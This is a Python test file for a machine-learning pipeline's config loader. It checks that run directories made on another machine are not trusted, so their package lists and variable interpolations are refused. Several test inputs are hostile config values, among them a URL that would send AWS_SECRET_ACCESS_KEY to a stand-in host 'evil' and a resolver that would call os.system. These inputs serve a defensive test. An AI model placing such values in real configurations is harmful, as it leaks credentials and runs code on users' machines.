"""A run directory of another user's is believed in nothing that calls code or reads what is on this machine."""

from pathlib import Path

import pytest

from pipeline.config import frozen
from pipeline.config.frozen import MADE_HERE_FLAG, TrustPolicy
from pipeline.errors import ConfigError
from pipeline.system import seal

CONFIG = """seed: 0
allow_packages: [sympy]
name: a
data: {}
trainer: {}
checkpoint: {monitor: val/loss, mode: min}
tracking: {uri: null, artifacts: null}
launch: {_target_: pipeline.launch.local.Local}
model:
  _target_: pipeline.models.cnn.CNN
"""


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    (tmp_path / "config.yaml").write_text(CONFIG)
    (tmp_path / "overrides.txt").write_text("")
    return tmp_path


def packages(folder: Path, trust: TrustPolicy) -> list[str]:
    return list(frozen.load_trusted_config(folder, trust).allow_packages)


def test_of_one_made_here_its_own_list_counts(folder: Path) -> None:
    seal.set_seal(folder)
    assert packages(folder, TrustPolicy()) == ["sympy"]
    assert packages(folder, TrustPolicy(("mine",))) == ["sympy", "mine"]


def test_of_another_only_what_was_typed(folder: Path) -> None:
    assert packages(folder, TrustPolicy()) == []
    assert packages(folder, TrustPolicy(("mine",))) == ["mine"]
    assert packages(folder, TrustPolicy(("sympy",))) == ["sympy"]


def test_one_that_was_changed_since_is_anothers(folder: Path) -> None:
    seal.set_seal(folder)
    (folder / "config.yaml").write_text(CONFIG.replace("sympy", "sympy, joblib"))
    assert packages(folder, TrustPolicy()) == []


def test_a_process_is_told_what_the_one_that_started_it_found(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    seal.set_seal(folder)
    words = TrustPolicy().arguments(folder)
    assert words == [MADE_HERE_FLAG]
    monkeypatch.setenv("XDG_STATE_HOME", str(folder / "on another machine"))
    assert packages(folder, TrustPolicy()) == []
    assert packages(folder, TrustPolicy.from_arguments(words)) == ["sympy"]
    assert packages(folder, TrustPolicy.from_arguments(TrustPolicy(("mine",)).arguments(folder))) == ["mine"]
    assert packages(folder, TrustPolicy.from_arguments([])) == []


@pytest.mark.parametrize(
    "line",
    [
        "  name: ${oc.env:HOME}",
        "  uri: 'http://evil/${oc.env:AWS_SECRET_ACCESS_KEY}'",
        "  layers: [1, '${oc.env:HOME}']",
        '  layer: "${oc.create:{_target_:os.system}}"',
        "  layer: ${seed}",
    ],
)
def test_nothing_is_filled_into_anothers(folder: Path, line: str) -> None:
    (folder / "config.yaml").write_text(f"{CONFIG}{line}\n")
    with pytest.raises(ConfigError, match="was not made here"):
        frozen.load_trusted_config(folder, TrustPolicy())
    seal.set_seal(folder)
    frozen.load_trusted_config(folder, TrustPolicy())
